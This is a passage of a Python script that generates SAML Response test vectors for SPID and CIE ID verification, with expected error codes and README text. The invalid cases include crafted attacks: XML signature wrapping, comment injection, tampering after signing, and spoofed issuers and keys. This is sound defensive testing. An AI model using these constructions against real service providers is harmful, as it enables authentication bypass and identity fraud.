        f"{RT_RESP} (Assertion: AuthnContextClassRef is one of https://www.spid.gov.it/SpidL1, SpidL2, SpidL3); spid-saml-check test 97; {SRC_SPEC} S10e"
    )
    for slug, value, what in [
        ("classref-old-urn", "urn:oasis:names:tc:SAML:2.0:ac:classes:SpidL2", "the pre-2017 URN form"),
        ("classref-http", "http://www.spid.gov.it/SpidL2", "http instead of https"),
        ("classref-trailing-slash", LVL + "SpidL2/", "a trailing slash"),
        ("classref-lowercase", LVL + "spidl2", "lower case"),
        ("classref-l4", LVL + "SpidL4", "a level 4 that does not exist"),
        ("classref-l0", LVL + "SpidL0", "a level 0 that does not exist"),
        ("classref-password", "urn:oasis:names:tc:SAML:2.0:ac:classes:PasswordProtectedTransport", "a SAML authentication context class"),
        ("classref-eidas", "http://eidas.europa.eu/LoA/substantial", "the eIDAS level URI"),
    ]:
        f = out.doc(
            slug,
            f"AuthnContextClassRef {value} ({what}), signed",
            edit=st("Assertion/AuthnStatement/AuthnContext/AuthnContextClassRef", esc(value)),
        )
        g.invalid(f"AuthnContextClassRef {value}: {what}, not a SPID level", f, "saml.authn_context.invalid", ["UnknownLevel"])
    f = "responses/classref-old-urn.xml"
    g.invalid(
        "the old URN form with SpidL3 requested: an unknown ClassRef is saml.authn_context.invalid, decided before the level comparison",
        f,
        "saml.authn_context.invalid",
        ["UnknownLevel"],
        context={"min_level": "SpidL3"},
    )


def cie_sig(key="rsa3072", cert="cie-signing", **kw):
    kw.setdefault("prefix_list", "xsd")
    kw.setdefault("fmt", "santuario")
    return Sig(key=key, keyinfo=(cert,) if cert else None, **kw)


CIE_SRC = "CIE ID SAML profile (Manuale tecnico per i fornitori di servizi, italia/cie-manuale-tecnico-docs@30ba5597 protocolli.rst, ciespid.rst; docs.italia.it cie-eid-saml-docs versione-corrente); structure mirrored from the CIE pre-production Response in pagopa/io-spid-commons src/utils/__mocks__/saml.ts"


def cie_cases(out):
    B = out.base()
    ident = identity_of(B)
    A1 = B.but(resp_sig=None)
    vf = out.vfile(
        "profile.json",
        "the CIE ID profile: what differs from SPID, and which keys may sign",
        [
            'CIE ID SAML 2.0 Responses (HTTP-POST binding) in the shape the Ministry\'s Shibboleth IdP writes them: saml2p:/saml2: prefixes, Issuer without Format, NameID with SPNameQualifier, the eIDAS minimum attributes typed xsd:string, signatures with InclusiveNamespaces PrefixList="xsd", base64 broken by &#13; line ends, milliseconds, SubjectLocality and Address.',
            f"Generated by {GEN} with our own test CIE IdP ({CIE_IDP}, signing key test-vectors/keys/rsa3072.pk8.pem, metadata/cie-idp.xml, a Shibboleth-style EntityDescriptor with separate signing and encryption keys and an AttributeAuthorityDescriptor); test keys only.",
            f"Context: SP {SP}, ACS {ACS}, AuthnRequest {CIE_REQ} sent {CIE_REQ_II}, SpidL3 exact (CIE requests use exact or minimum), now {CIE_NOW}, no skew. The reference Response: IssueInstant 2026-03-01T11:00:07.215Z, AuthnInstant 2026-03-01T11:00:04.532Z, NotOnOrAfter 2026-03-01T11:05:07.215Z, level SpidL3.",
        ],
    )
    g = vf.group(f"{CIE_SRC}; {SRC_SPEC} section 6 (CIE profile differences)", trust=["metadata/cie-idp.xml"])
    f = out.doc(
        "valid",
        "the reference CIE Response: both signed by the CIE signing key (rsa3072, PrefixList xsd, Santuario base64), no Issuer Format, SPNameQualifier, four xsd:string attributes, SpidL3",
    )
    g.valid(
        "the reference CIE Response: every check passes; the identity comes from the four eIDAS attributes, nothing else in attributes",
        f,
        ident,
        ["CieProfile", "PrefixList"],
    )
    f = out.doc("valid-assertion-signed-only", "the reference CIE Response without the Response signature", A1)
    g.valid("the Response unsigned, the Assertion signed: allowed as for SPID", f, ident, ["CieProfile", "OptionalResponseSignature"])
    f = out.doc(
        "valid-assertion-issuer-format",
        "the Assertion Issuer with Format ...nameid-format:entity (as the CIE manual's own example)",
        edit=sa("Assertion/Issuer", "Format", ENTITY),
    )
    g.valid("the Assertion Issuer carries Format ...:entity: allowed (absent or entity)", f, ident, ["CieProfile"])
    f = out.doc(
        "valid-response-issuer-format", "the Response Issuer with Format ...nameid-format:entity", edit=sa("Issuer", "Format", ENTITY)
    )
    g.valid("the Response Issuer carries Format ...:entity", f, ident, ["CieProfile"])
    f = out.doc("valid-no-spnamequalifier", "the NameID without SPNameQualifier", B.but(sp_name_qualifier=None))
    g.valid("the NameID without SPNameQualifier: optional", f, ident, ["CieProfile"])
    f = out.doc(
        "valid-no-prefixlist",
        "both signatures made without InclusiveNamespaces (plain exc-c14n)",
        B.but(resp_sig=cie_sig(prefix_list=None), assert_sig=cie_sig(prefix_list=None)),
    )
    g.valid(
        "signed without PrefixList: the xsd declaration is then not part of the signed bytes; still a valid signature",
        f,
        ident,
        ["PrefixList"],
    )
    f = out.doc(
        "valid-base64-spaces",
        "both signatures with base64 in 76-character chunks separated by spaces (as pagopa's CIE mock prints them)",
        B.but(resp_sig=cie_sig(fmt="spaces76"), assert_sig=cie_sig(fmt="spaces76")),
    )
    g.valid("base64 values split by spaces and line breaks, as in the published CIE sample", f, ident, ["CieProfile"])
    f = out.doc(
        "xsd-rebound-no-prefixlist",
        "signed without PrefixList (Response unsigned), then xmlns:xsd of the Assertion rebound to another URI",
        A1.but(assert_sig=cie_sig(prefix_list=None)),
        post=rep(
            'xmlns:saml2="urn:oasis:names:tc:SAML:2.0:assertion" xmlns:xsd="http://www.w3.org/2001/XMLSchema">',
            'xmlns:saml2="urn:oasis:names:tc:SAML:2.0:assertion" xmlns:xsd="urn:idbridge:test:not-xml-schema">',
        ),
    )
    g.valid(
        "without PrefixList the binding of xsd (used only inside xsi:type values) is not signed: rebinding it after signing leaves the signature valid. A known limit of exc-c14n; xsi:type is never used, so the identity is unchanged",
        f,
        identity_of(A1),
        ["PrefixList"],
    )
    f = out.doc(
        "xsd-rebound-prefixlist",
        'signed with PrefixList="xsd" (Response unsigned), then xmlns:xsd of the Assertion rebound to another URI',
        A1,
        post=rep(
            'xmlns:saml2="urn:oasis:names:tc:SAML:2.0:assertion" xmlns:xsd="http://www.w3.org/2001/XMLSchema">',
            'xmlns:saml2="urn:oasis:names:tc:SAML:2.0:assertion" xmlns:xsd="urn:idbridge:test:not-xml-schema">',
        ),
    )
    g.invalid(
        'with PrefixList="xsd" the xsd declaration is signed: rebinding it after signing breaks the digest (a c14n that ignores PrefixList computes another digest and fails every CIE Response)',
        f,
        "xmldsig.digest.mismatch",
        ["PrefixList", "TamperedAfterSigning"],
    )
    f = out.doc(
        "spnamequalifier-other",
        "NameID SPNameQualifier naming another SP",
        edit=sa("Assertion/Subject/NameID", "SPNameQualifier", "https://app-backend.idbridge.test"),
    )
    g.invalid(
        "SPNameQualifier names another SP: the NameID was issued for someone else",
        f,
        "saml.subject.invalid",
        ["CieProfile", "SubjectConfirmation"],
    )
    f = out.doc(
        "assertion-issuer-format-other",
        "the Assertion Issuer with Format ...:unspecified",
        edit=sa("Assertion/Issuer", "Format", "urn:oasis:names:tc:SAML:1.1:nameid-format:unspecified"),
    )
    g.invalid("the Assertion Issuer Format is neither absent nor ...:entity", f, "saml.issuer.invalid", ["CieProfile", "IssuerSpoofing"])
    f = out.doc("assertion-issuer-format-empty", 'the Assertion Issuer with Format=""', edit=sa("Assertion/Issuer", "Format", ""))
    g.invalid(
        "the Assertion Issuer Format is present but empty: neither absent nor ...:entity",
        f,
        "saml.issuer.invalid",
        ["CieProfile", "IssuerSpoofing"],
    )
    f = out.doc("response-issuer-format-other", "the Response Issuer with Format ...:transient", edit=sa("Issuer", "Format", TRANSIENT))
    g.invalid("the Response Issuer Format is neither absent nor ...:entity", f, "saml.issuer.invalid", ["CieProfile", "IssuerSpoofing"])
    port = CIE_IDP.replace(".test/", ".test:8443/")
    f = out.doc(
        "issuer-with-port",
        f"both Issuers and the NameQualifier {port} (the entityID with a port, as in the published pre-production sample), signed by the CIE key",
        B.but(issuer=port, name_qualifier=port),
    )
    g.invalid(
        "the Issuer is the entityID with ':8443' added (the published CIE pre-production sample has this form): not the trusted entityID",
        f,
        "saml.issuer.invalid",
        ["WrongTrust", "IssuerSpoofing"],
    )
    ps = P(SPID_DEFAULTS, req=CIE_REQ, ii="2026-03-01T11:00:07Z", authn="2026-03-01T11:00:04Z", noa="2026-03-01T11:05:07Z", level="SpidL3")
    f = out.doc(
        "spid-idp-response",
        f"a SPID-shaped Response of the SPID test IdP {SPID_IDP} (rsa2048, certificate spid-idp), answering the CIE request",
        ps,
    )
    g.invalid(
        "a genuine SPID IdP Response presented to a CIE-only configuration: its Issuer is not in the CIE trust",
        f,
        "saml.issuer.invalid",
        ["WrongTrust"],
    )
    for slug, key, cert, code, what, flags in [
        (
            "encryption-key-keyinfo",
            "rsa4096",
            "cie-encryption",
            "xmldsig.key.untrusted",
            'signed with the key of the KeyDescriptor use="encryption", its certificate in KeyInfo',
            ["MetadataKeyRole"],
        ),
        (
            "encryption-key-no-keyinfo",
            "rsa4096",
            None,
            "xmldsig.signature.invalid",
            "signed with the encryption key, no KeyInfo",
            ["MetadataKeyRole"],
        ),
        (
            "attribute-authority-key-keyinfo",
            "rsa2048",
            "cie-aa",
            "xmldsig.key.untrusted",
            "signed with the AttributeAuthorityDescriptor's signing key, its certificate in KeyInfo",
            ["MetadataKeyRole"],
        ),
        (
            "attribute-authority-key-no-keyinfo",
            "rsa2048",
            None,
            "xmldsig.signature.invalid",
            "signed with the AttributeAuthorityDescriptor's signing key, no KeyInfo",
            ["MetadataKeyRole"],
        ),
        (
            "stranger-keyinfo",
            "rsa2048-b",
            "cie-stranger",
            "xmldsig.key.untrusted",
            "signed by a stranger whose certificate copies the CIE IdP's name, in KeyInfo",
            ["UntrustedSigningKey"],
        ),
    ]:
        f = out.doc(slug, f"both signatures {what}", B.but(resp_sig=cie_sig(key, cert), assert_sig=cie_sig(key, cert)))
        g.invalid(f"both signatures {what}: only the IDPSSODescriptor's signing key may verify", f, code, flags)
    f = out.doc(
        "assertion-encryption-key",
        "the Response signed by the CIE signing key, the Assertion by the encryption key (certificate in KeyInfo)",
        B.but(assert_sig=cie_sig("rsa4096", "cie-encryption")),
    )
    g.invalid(
        "a valid Response signature around an Assertion signed with the encryption key", f, "xmldsig.key.untrusted", ["MetadataKeyRole"]
    )
    f = out.doc("dateofbirth-italian", 'dateOfBirth "09/03/1972" (xsd:string)', edit=set_value("dateOfBirth", "09/03/1972"))
    g.invalid(
        "dateOfBirth typed xsd:string but written 09/03/1972: the value must still be YYYY-MM-DD",
        f,
        "saml.attribute.invalid",
        ["AttributeFormat"],
    )
    f = out.doc("fiscalnumber-no-prefix", "fiscalNumber without TINIT-", edit=set_value("fiscalNumber", MARCO["fiscalNumber"][6:]))
    g.invalid("fiscalNumber without the TINIT- prefix", f, "saml.attribute.invalid", ["AttributeFormat"])

    g = vf.group(f"{CIE_SRC} (levels 1-3, Comparison exact or minimum); {SRC_SPEC} section 2.6", trust=["metadata/cie-idp.xml"])
    for lv in (1, 2):
        p = B.but(level=f"SpidL{lv}")
        out.doc(f"level-spidl{lv}", f"the reference CIE Response returning SpidL{lv}", p)
    p1, p2 = B.but(level="SpidL1"), B.but(level="SpidL2")
    g.valid(
        "SpidL1 returned, SpidL1 minimum requested (CIE level 1: username and password, or the app)",
        "responses/level-spidl1.xml",
        identity_of(p1),
        [],
        context={"min_level": "SpidL1", "comparison": "minimum"},
    )
    g.valid(
        "SpidL2 returned, SpidL2 minimum requested",
        "responses/level-spidl2.xml",
        identity_of(p2),
        [],
        context={"min_level": "SpidL2", "comparison": "minimum"},
    )
    g.valid(
        "SpidL3 returned, SpidL2 minimum requested",
        "responses/valid.xml",
        ident,
        [],
        context={"min_level": "SpidL2", "comparison": "minimum"},
    )
    g.valid(
        "SpidL3 returned, SpidL2 exact requested: a higher level is accepted",
        "responses/valid.xml",
        ident,
        ["SpidHigherLevelAllowed"],
        context={"min_level": "SpidL2", "comparison": "exact"},
    )
    g.valid(
        "SpidL3 returned, SpidL3 minimum requested",
        "responses/valid.xml",
        ident,
        [],
        context={"min_level": "SpidL3", "comparison": "minimum"},
    )
    g.invalid(
        "SpidL2 returned, SpidL3 exact requested", "responses/level-spidl2.xml", "saml.authn_context.insufficient", ["LevelDowngrade"]
    )
    g.invalid(
        "SpidL2 returned, SpidL3 minimum requested",
        "responses/level-spidl2.xml",
        "saml.authn_context.insufficient",
        ["LevelDowngrade"],
        context={"comparison": "minimum"},
    )
    g.invalid(
        "SpidL1 returned, SpidL2 minimum requested",
        "responses/level-spidl1.xml",
        "saml.authn_context.insufficient",
        ["LevelDowngrade"],
        context={"min_level": "SpidL2", "comparison": "minimum"},
    )
    g.invalid(
        "SpidL3 returned, SpidL3 better requested (not a CIE comparison, same rule): equal is refused",
        "responses/valid.xml",
        "saml.authn_context.insufficient",
        ["LevelDowngrade"],
        context={"comparison": "better"},
    )
    f = out.doc(
        "classref-smartcard",
        "AuthnContextClassRef ...ac:classes:Smartcard",
        edit=st("Assertion/AuthnStatement/AuthnContext/AuthnContextClassRef", "urn:oasis:names:tc:SAML:2.0:ac:classes:Smartcard"),
    )
    g.invalid("AuthnContextClassRef ...:Smartcard (a SAML class, not a SPID level)", f, "saml.authn_context.invalid", ["UnknownLevel"])

    g = vf.group(f"SAML bindings 2.0 3.5.4; {SRC_SPEC} S1", trust=["metadata/cie-idp.xml"], input_encoding="base64")
    f = out.raw(
        "base64-valid",
        "base64 of responses/valid.xml broken every 76 characters by CR LF",
        "\r\n".join(chunks(b64(out.files["responses/valid.xml"][0]), 76)),
        "b64",
    )
    g.valid("the reference CIE Response as posted: base64 with CR LF line breaks", f, ident, ["InputEncoding"])

    # ---------------------------------------------------------- checks.json
    vf = out.vfile(
        "checks.json",
        "the common checks on CIE-shaped Responses",
        [
            "The same rules as SPID (signatures, wrapping, text reading, status, header, subject, conditions, times) on Responses in the CIE shape.",
            f"Generated by {GEN}; context and trust as in profile.json.",
        ],
    )
    g = vf.group(f"{CIE_SRC}; SAML core 2.0; {SRC_SPEC} S2-S10", trust=["metadata/cie-idp.xml"])
    g.invalid(
        "the Response signed, the Assertion not: the Assertion signature is required even then",
        out.doc("assertion-unsigned", "the Response signed, the Assertion unsigned", B.but(assert_sig=None)),
        "xmldsig.signature.missing",
        ["UnsignedAssertion"],
    )
    g.invalid(
        "no signature at all: the Assertion must be signed",
        out.doc("unsigned", "neither the Response nor the Assertion signed", B.but(resp_sig=None, assert_sig=None)),
        "xmldsig.signature.missing",
        ["UnsignedAssertion"],
    )
    cf = MARCO["fiscalNumber"]
    g.invalid(
        "the name changed after signing (both signed): the Response signature fails first",
        out.doc("tampered-name", "the name changed to MALLORY after signing", post=rep(">MARCO<", ">MALLORY<")),
        "xmldsig.digest.mismatch",
        ["TamperedAfterSigning"],
    )
    g.invalid(
        "the fiscalNumber changed after signing (Response unsigned)",
        out.doc("tampered-fiscalnumber", "Response unsigned; the fiscalNumber changed after signing", A1, post=rep(cf, MALLORY_CF)),
        "xmldsig.digest.mismatch",
        ["TamperedAfterSigning"],
    )
    f = out.doc(
        "comment-in-fiscalnumber",
        "both signed; fiscalNumber written TINIT-<!---->VRDMRC... after signing",
        post=rep(">" + cf + "<", ">TINIT-<!---->" + cf[6:] + "<"),
    )
    g.valid(
        "a comment inserted into the fiscalNumber after signing: both signatures verify, subject_id is the full code",
        f,
        ident,
        ["CommentInjection"],
    )
    f = out.doc("comment-in-name", "both signed; name written MA<!---->RCO after signing", post=rep(">MARCO<", ">MA<!---->RCO<"))
    g.valid("a comment inside the name after signing: given_name is MARCO", f, ident, ["CommentInjection"])

    def xsw7(r):
        A = lx_assertion(r)
        ext = etree.Element(q(SAMLP, "Extensions"))
        r.find(q(SAMLP, "Status")).addprevious(ext)
        lx_replace(A, evil_assertion(out, "cie-xsw7", A1))
        ext.append(A)

    ga = out.files[out.doc("xsw-genuine", "the genuine Response of the wrapping cases: Response unsigned, Assertion signed", A1)][0]
    g.valid("the genuine Response of the wrapping cases", "responses/xsw-genuine.xml", identity_of(A1), ["OptionalResponseSignature"])
    r = parse(ga)
    xsw7(r)
    g.invalid(
        "XSW7: the genuine signed Assertion moved into Extensions, the attacker's unsigned Assertion in its place",
        out.raw(
            "xsw7-assertion-in-extensions",
            "XSW7 on the CIE Response: the genuine signed Assertion in samlp:Extensions, an evil unsigned Assertion in its place",
            serialize(r),
        ),
        "saml.structure.invalid",
        ["SignatureWrapping"],
    )
    r = parse(ga)
    lx_assertion(r).addprevious(evil_assertion(out, "cie-xsw3", A1))
    g.invalid(
        "XSW3: an evil unsigned Assertion before the genuine one",
        out.raw(
            "xsw3-evil-assertion-first", "XSW3 on the CIE Response: an evil unsigned Assertion before the genuine signed one", serialize(r)
        ),
        "saml.structure.invalid",
        ["SignatureWrapping"],
    )
    r = parse(ga)
    A = lx_assertion(r)
    ev = evil_assertion(out, "cie-transplant", A1)
    ev.find(q(SAML, "Issuer")).addnext(copy.deepcopy(lx_sig(A)))
    lx_replace(A, ev)
    g.invalid(
        "the genuine Signature transplanted into an evil Assertion (the genuine Assertion removed)",
        out.raw(
            "xsw-signature-transplant",
            "an evil Assertion carrying a copy of the genuine Signature, the genuine Assertion removed",
            serialize(r),
        ),
        "xmldsig.reference.invalid",
        ["SignatureWrapping", "ReferenceConfusion"],
    )
    f = out.doc(
        "doctype",
        "the reference CIE Response with an internal entity for the name (signatures valid for the expanded document)",
        post=chain(rep(DECL, DECL + '<!DOCTYPE saml2p:Response [\n  <!ENTITY n "MARCO">\n]>\n'), rep(">MARCO<", ">&n;<")),
    )
    g.invalid("a DOCTYPE with an internal entity used for the name", f, "xml.dtd.forbidden", ["DtdForbidden"])
    f = out.doc(
        "encrypted-assertion",
        "a signed Response whose Assertion is a saml2:EncryptedAssertion",
        edit=put("Assertion", cie_encrypted_assertion()),
    )
    g.invalid("an EncryptedAssertion: not supported", f, "saml.structure.invalid", ["EncryptedAssertion"])
    failed = failure_status(ST + "Responder", ST + "AuthnFailed", "ErrorCode nr22", prefix="saml2p")
    f = out.doc(
        "status-authnfailed", "Status Responder / AuthnFailed / 'ErrorCode nr22', no Assertion, Response signed", edit=set_status(failed)
    )
    g.invalid("a failure Status (Responder / AuthnFailed, consent denied)", f, "saml.status.failure", ["StatusFailure"])
    f = out.doc(
        "status-authnfailed-no-message",
        "Status Responder / AuthnFailed without StatusMessage, no Assertion, Response signed",
        edit=set_status(failure_status(ST + "Responder", ST + "AuthnFailed", prefix="saml2p")),
    )
    g.invalid("a failure Status without message", f, "saml.status.failure", ["StatusFailure"])
    for slug, what, edit, code, flags in [
        ("version-1.0", 'Response Version="1.0"', sa("", "Version", "1.0"), "saml.version.invalid", []),
        (
            "destination-other",
            "Destination = another SP's ACS",
            sa("", "Destination", "https://app-backend.idbridge.test/assertionConsumerService"),
            "saml.destination.mismatch",
            ["WrongEndpoint"],
        ),
        (
            "inresponseto-other",
            "Response InResponseTo of another request",
            sa("", "InResponseTo", "_61395d807fb9fe6a869b"),
            "saml.in_response_to.mismatch",
            ["ForeignOrUnsolicitedResponse"],
        ),
        (
            "scd-inresponseto-other",
            "SubjectConfirmationData InResponseTo of another request",
            sa("Assertion/Subject/SubjectConfirmation/SubjectConfirmationData", "InResponseTo", "_61395d807fb9fe6a869b"),
            "saml.in_response_to.mismatch",
            ["ForeignOrUnsolicitedResponse"],
        ),
        (
            "recipient-other",
            "Recipient = another SP's ACS",
            sa(
                "Assertion/Subject/SubjectConfirmation/SubjectConfirmationData",
                "Recipient",
                "https://app-backend.idbridge.test/assertionConsumerService",
            ),
            "saml.recipient.mismatch",
            ["WrongEndpoint"],
        ),
        (
            "audience-other",
            "Audience = another SP",
            st("Assertion/Conditions/AudienceRestriction/Audience", "https://app-backend.idbridge.test"),
            "saml.audience.mismatch",
            ["AudienceNotRestricted"],
        ),
        (
            "namequalifier-missing",
            "NameID without NameQualifier",
            da("Assertion/Subject/NameID", "NameQualifier"),
            "saml.structure.invalid",
            ["MissingElement", "SubjectConfirmation"],
        ),
        (
            "nameid-format-persistent",
            "NameID Format ...:persistent",
            sa("Assertion/Subject/NameID", "Format", "urn:oasis:names:tc:SAML:2.0:nameid-format:persistent"),
            "saml.subject.invalid",
            ["SubjectConfirmation"],
        ),
        (
            "authnstatement-missing",
            "the Assertion without AuthnStatement",
            rm("Assertion/AuthnStatement"),
            "saml.structure.invalid",
            ["MissingElement"],
        ),
        (
            "attribute-two-values",
            "fiscalNumber with a second AttributeValue",
            lambda R: attribute_el(R, "fiscalNumber").children.append(
                El("saml2:AttributeValue", [("xmlns:xsi", XSI), ("xsi:type", "xsd:string")], text=MALLORY_CF)
            ),
            "saml.attribute.invalid",
            ["AttributeAmbiguity"],
        ),
    ]:
        g.invalid(why(what, code), out.doc(slug, what + " (signed)", edit=edit), code, flags)

    g = vf.group(f"SAML core 2.0 1.3.3, 2.5.1.2; {CIE_SRC} (milliseconds); {SRC_SPEC} section 1.3", trust=["metadata/cie-idp.xml"])
    times = dict(
        ii="2026-03-01T11:00:07.215Z",
        a_ii="2026-03-01T11:00:07.215Z",
        nb="2026-03-01T11:00:07.215Z",
        noa="2026-03-01T11:05:07.215Z",
        scd_noa="2026-03-01T11:05:07.215Z",
    )
    for slug, what, result, code, vals in [
        (
            "notonorafter-eq-now",
            "Conditions NotOnOrAfter = now (written with .000): expired",
            "invalid",
            "saml.time.expired",
            dict(noa="2026-03-01T11:00:20.000Z"),
        ),
        ("notonorafter-now-plus-1ms", "Conditions NotOnOrAfter = now + 1 ms: valid", "valid", None, dict(noa="2026-03-01T11:00:20.001Z")),
        (
            "scd-notonorafter-eq-now",
            "SubjectConfirmationData NotOnOrAfter = now: expired",
            "invalid",
            "saml.time.expired",
            dict(scd_noa="2026-03-01T11:00:20.000Z"),
        ),
        (
            "notbefore-now-plus-1ms",
            "Conditions NotBefore = now + 1 ms: not yet valid",
            "invalid",
            "saml.time.not_yet_valid",
            dict(nb="2026-03-01T11:00:20.001Z"),
        ),
        ("notbefore-eq-now", "Conditions NotBefore = now: valid", "valid", None, dict(nb="2026-03-01T11:00:20.000Z")),
        (
            "ii-now-plus-1ms",
            "Response IssueInstant = now + 1 ms: invalid",
            "invalid",
            "saml.time.invalid",
            dict(ii="2026-03-01T11:00:20.001Z"),
        ),
        (
            "ii-before-request",
            "Response IssueInstant 1 ms before the AuthnRequest's: invalid",
            "invalid",
            "saml.time.invalid",
            dict(ii="2026-03-01T10:59:59.999Z"),
        ),
        (
            "assertion-ii-before-request",
            "Assertion IssueInstant 1 ms before the AuthnRequest's: invalid",
            "invalid",
            "saml.time.invalid",
            dict(a_ii="2026-03-01T10:59:59.999Z"),
        ),
        (
            "ii-offset",
            "Response IssueInstant 2026-03-01T12:00:07.215+01:00 (the same instant with an offset)",
            "invalid",
            "saml.time.invalid",
            dict(ii="2026-03-01T12:00:07.215+01:00"),
        ),
    ]:
        p = B.but(**dict(times, **vals))
        f = out.doc("time-" + slug, what + " (signed)", p)
        flags = ["TimeFormat"] if slug == "ii-offset" else ["TimeBoundary"]
        if result == "valid":
            g.valid(what, f, identity_of(p), flags)
        else:
            g.invalid(what, f, code, flags + (["ExpiredAssertionReplay"] if code == "saml.time.expired" else []))


def cie_encrypted_assertion():
    e = encrypted_assertion("cie-encrypted")
    e.rename("saml2")
    e.attrs.append(("xmlns:saml2", SAML))
    return e


# ------------------------------------------------------------------ READMEs

DECISIONS = [
    "An EncryptedAssertion is refused with `saml.structure.invalid` (not supported).",
    "The maximum IssueInstant age is 300 s (IssueInstant + skew >= now - 300 s), on top of the AuthnRequest bound when `request_issue_instant` is given; every case keeps IssueInstant within 300 s of `now` except the age cases of time.json, whose context has no `request_issue_instant`.",
    "Exactly one SubjectConfirmation and exactly one AuthnStatement (`saml.structure.invalid` otherwise).",
    "Conditions may hold AudienceRestriction, OneTimeUse and ProxyRestriction; any other child is `saml.structure.invalid`.",
    "Level: a higher level is always accepted; an equal one unless the comparison is `better`; a lower one only under `maximum`.",
    "KeyInfo: an X509Certificate whose bytes are not one of the IdP's metadata signing certificates makes the signature `xmldsig.key.untrusted` (also a renewed certificate over the same key, and a KeyInfo that adds a stranger's certificate to the IdP's: flag `KeyInfoCertificateBytes`).",
    'CIE: Issuer Format absent or exactly `urn:oasis:names:tc:SAML:2.0:nameid-format:entity`; NameID SPNameQualifier, when present, equal to `sp_entity_id`; attributes typed xsd:string; signatures with PrefixList="xsd"; identity `system` "cie"; the SPID level URIs.',
    "Times are compared to the nanosecond; a malformed time (also AuthnInstant) is `saml.time.invalid`, a missing or empty one `saml.structure.invalid`; values are trimmed before parsing.",
    "exc-c14n#WithComments is refused: as CanonicalizationMethod `xmldsig.algorithm.forbidden`, as a transform `xmldsig.transform.forbidden` (the spec's section 1.1).",
    "Several AttributeStatements are `saml.attribute.invalid` (the S10f row of the spec).",
    "Identity of a valid case: `system`, `issuer`, `subject_id` (fiscalNumber, TINIT-...), `given_name`, `family_name`, `birth_date`, `level`, `loa`, `authn_instant` (as written), `attributes` (every other attribute, trimmed).",
]


GITATTRIBUTES = """# Generated by test-vectors/saml-generator/generate.py. The vectors are compared byte for byte:
# never convert line endings (responses/valid-crlf.xml and the CR LF base64 bodies carry CR LF on purpose).
* -text
"""


def counts(tests):
    c = {"valid": 0, "acceptable": 0, "invalid": 0}
    codes = {}
    for t in tests:
        c[t["result"]] += 1
        if t["result"] == "invalid":
            k = t.get("expectedError", "(any code)")
            codes[k] = codes.get(k, 0) + 1
    parts = [f"{c['valid']} valid"] + ([f"{c['acceptable']} acceptable"] if c["acceptable"] else [])
    parts += [f"{n} `{k}`" if not k.startswith("(") else f"{n} invalid without a fixed code" for k, n in sorted(codes.items())]
    return len(tests), "; ".join(parts)


def usage(out):
    """relpath -> ['valid.json #3', ...]"""
    used = {}
    for vf in out.vfiles:
        for g in vf.groups:
            for p in g.trust:
                used.setdefault(p, [])
                if vf.name not in [u.split(" ")[0] for u in used[p]]:
                    used[p].append(vf.name)
            for t in g.tests:
                if "file" in t["input"]:
                    used.setdefault(t["input"]["file"], []).append(f"{vf.name} #{t['tcId']}")
    return used


def fingerprint(der):
    d = hashlib.sha256(der).hexdigest().upper()
    return ":".join(d[i : i + 2] for i in range(0, len(d), 2))


def cert_line(name):
    der, keyname, what = CERTS[name]
    c = x509.load_der_x509_certificate(der)
    return (
        f"- **{name}**: {what}. Subject `{c.subject.rfc4514_string()}`, self-signed, serial 0x{c.serial_number:X}, "
        f"{c.not_valid_before_utc:%Y-%m-%d} to {c.not_valid_after_utc:%Y-%m-%d}, RSA-{c.public_key().key_size}, SHA-256 fingerprint `{fingerprint(der)}`."
    )


def readmes(out, elapsed):
    total = [t for vf in out.vfiles for g in vf.groups for t in g.tests]
    n, summary = counts(total)
    used = usage(out)
    system = "SPID" if out.profile == "spid" else "CIE ID"
    lines = [
        f"# {out.folder}/: {system} SAML 2.0 Response vectors (kind `{out.kind}`)",
        "",
        f"idbridge's own conformance vectors for {system} Responses (HTTP-POST binding), in the format of `VECTORS.md`. "
        f"Run them with `cargo run --release -p idbridge-cli -- vectors test-vectors/{out.folder}`.",
        "",
        f"Everything in this folder is **generated**, never edited by hand, by `../saml-generator/generate.py` "
        f"(Python 3, lxml {lxml.__version__} / libxml2 exclusive c14n, pyca/cryptography {cryptography.__version__}; see `../saml-generator/README.md`):",
        "",
        "```",
        "pip install -r test-vectors/saml-generator/requirements.txt",
        "python3 test-vectors/saml-generator/generate.py          # writes test-vectors/spid/ and test-vectors/cie/",
        "python3 test-vectors/saml-generator/generate.py --check  # regenerates into a temporary folder and compares",
        "```",
        "",
        "The output is reproducible byte for byte: the keys are the committed test keys of `../keys/`, the certificates are built with fixed names, serials and dates, "
        "RSA PKCS#1 v1.5 signatures are deterministic, IDs are hashes of file names, every time is fixed. Signatures are made with libxml2's exclusive c14n, an implementation "
        "independent of idbridge's Rust c14n. Before writing, the generator runs every case through its own reference model of the verification rules "
        "(S1-S11 of the SPID/CIE implementation spec and the decisions below): each valid case must verify every signature and give exactly its `identity`, "
        "each invalid case must fail with exactly its `expectedError`; each wrapping case must also hold a signature that a naive verifier accepts. "
        "Test material under fictitious names only: never trust any of these keys.",
        "",
        f"Total: {n} cases ({summary}).",
        "",
        "## Vector files",
        "",
        "| file | what | cases |",
        "|---|---|---|",
    ]
    for vf in out.vfiles:
        tests = [t for g in vf.groups for t in g.tests]
        k, sm = counts(tests)
        lines.append(f"| `{vf.name}` | {vf.title} | {k}: {sm} |")
    lines += [
        "",
        "## Other files",
        "",
        "- `metadata/`: the trusted IdP metadata, unsigned on purpose (the verifier is configured with it); one line per file in `metadata/README.md`.",
        "- `responses/`: the Responses (`.xml`) and the HTTP-POST bodies (`.b64`: the base64 text as posted); one line per file in `responses/README.md`.",
        "- `.gitattributes`: `* -text`, so that git never converts line endings (some inputs carry CR LF on purpose).",
        "- `README.md`: this index.",
        "",
        "## Context",
        "",
    ]
    ctx = out.context
    lines.append(
        "Every group starts from this context; a group or a case changes what it names: "
        + ", ".join(f"`{k}` {json.dumps(v)}" for k, v in ctx.items())
        + "."
    )
    lines += ["", "## Decisions where the spec leaves a choice", ""] + ["- " + d for d in DECISIONS]
    lines += [
        "",
        "## Checks and codes",
        "",
        "S1 input (base64, UTF-8: `input.encoding`); S2 XML (`xml.dtd.forbidden`, `xml.malformed`); S3 envelope (`saml.structure.invalid`); S4 IdP selection from the Issuer (`saml.issuer.invalid`); "
        "S5 Response signature when present and S9 Assertion signature (`xmldsig.*`); S6 Response header; S7 Status (`saml.status.failure`); S8 the Assertion; "
        "S10a-f Assertion header, Issuer, Subject, Conditions, AuthnStatement, attributes; S11 identity. The first failing check decides. "
        "Each invalid case breaks one rule (cases flagged `CheckOrder` break two on purpose). Cases without `expectedError` are those whose code the spec does not fix.",
        "",
    ]
